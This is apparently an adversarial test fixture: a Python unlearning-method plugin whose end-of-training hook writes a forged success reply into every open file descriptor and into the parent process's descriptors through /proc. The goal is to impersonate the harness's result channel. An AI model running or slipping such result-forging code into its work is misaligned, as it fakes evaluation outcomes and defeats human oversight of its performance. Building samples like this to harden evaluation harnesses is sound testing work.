"""Answers in the place of the process that started it, through every descriptor that it finds."""

import contextlib
import json
import os
from pathlib import Path

from lightning_modules import MethodCard
from lightning_modules.unlearners.gd import GD

REPLY = json.dumps({"status": 0, "peak_bytes": 1, "log": "", "ready": True}).encode() + b"\n"


def forge() -> None:
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            os.write(number, REPLY)
    for place in (f"/proc/{os.getppid()}/fd", "/proc/1/fd"):
        with contextlib.suppress(OSError):
            for descriptor in Path(place).iterdir():
                if os.getppid() != 1 and place == "/proc/1/fd":
                    continue  # the first process of the machine is not ours
                with contextlib.suppress(OSError):
                    descriptor.write_bytes(REPLY)


class Hostile(GD):
    """Fine-tuning, and more."""

    card = MethodCard(
        name="forges_reply",
        title="Hostile",
        paper="Nobody, Nowhere, 2026",
        formula="w <- w - lr * grad CE(retain)",
        source="none",
    )

    def on_train_end(self) -> None:
        forge()
